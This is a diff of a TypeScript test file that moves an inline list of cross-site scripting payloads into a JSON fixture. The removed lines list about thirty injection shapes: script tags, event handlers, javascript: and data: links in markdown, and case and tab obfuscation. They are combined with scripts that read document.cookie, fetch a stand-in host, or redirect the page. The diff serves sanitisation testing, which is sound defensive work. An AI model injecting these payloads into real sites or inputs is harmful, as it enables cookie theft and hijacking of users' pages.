@@ -13,45 +13,13 @@ import { toSheetCharacter } from "#app/features/stories/reading/cast.ts";
 import type { CharacterRecord } from "#domain/character.ts";
 import { toSpokenText } from "#domain/markdown.ts";
 import type { Message } from "#domain/message.ts";
+import { markup as MARKUP, scripts as SCRIPTS } from "#tests/tools/hostile-texts.json";
 import { type CardCharacter, toCharacter } from "#workers/characters/cards/card.ts";
 import { readCard } from "#workers/characters/cards/read-card.ts";
 import { message } from "./conversation/live/events.ts";
 
-const SCRIPTS = ["alert(1)", "fetch('//x.test')", "document.cookie", "top.location='//x.test'"];
-const SHAPES: ((script: string) => string)[] = [
-  (js) => `<script>${js}</script>`,
-  (js) => `<SCRIPT SRC=//x.test>${js}</SCRIPT>`,
-  (js) => `<img src=x onerror="${js}">`,
-  (js) => `<svg onload="${js}"></svg>`,
-  (js) => `<svg><script>${js}</script></svg>`,
-  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
-  (js) => `<iframe src="javascript:${js}"></iframe>`,
-  (js) => `<a href="javascript:${js}">x</a>`,
-  (js) => `[x](javascript:${js})`,
-  (js) => `[x](JaVaScRiPt:${js})`,
-  (js) => `[x](<javascript:${js}>)`,
-  (js) => `[x](java\tscript:${js})`,
-  (js) => `[x](data:text/html,<script>${js}</script>)`,
-  (js) => `[x](vbscript:${js})`,
-  (js) => `[x][1]\n\n[1]: javascript:${js}`,
-  (js) => `<javascript:${js}>`,
-  (js) => `![x](javascript:${js})`,
-  (js) => `![x](//x.test/a.png "onerror=${js}")`,
-  (js) => `[x](https://a.test/" onmouseover="${js})`,
-  (js) => `<math><mi xlink:href="javascript:${js}">x</mi></math>`,
-  (js) => `<details open ontoggle="${js}">`,
-  (js) => `<input autofocus onfocus="${js}">`,
-  (js) => `<style>@import '//x.test';</style><b onclick="${js}">x</b>`,
-  (js) => `\`\`\`html"><img src=x onerror=${js}>\nx\n\`\`\``,
-  (js) => `**<img src=x onerror=${js}>**`,
-  (js) => `> <script>${js}</script>`,
-  (js) => `- <script>${js}</script>`,
-  (js) => `| a |\n|---|\n| <script>${js}</script> |`,
-  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
-  (js) => `</p></article><script>${js}</script>`,
-];
 /** Texts that would run a script if they were used as HTML or as an address. */
-const HOSTILE_TEXTS = SHAPES.flatMap((shape) => SCRIPTS.map(shape));
+const HOSTILE_TEXTS = MARKUP.flatMap((text) => SCRIPTS.map((script) => text.replaceAll("JS", script)));
 
 /** The elements that our components make. */
 const ELEMENT =
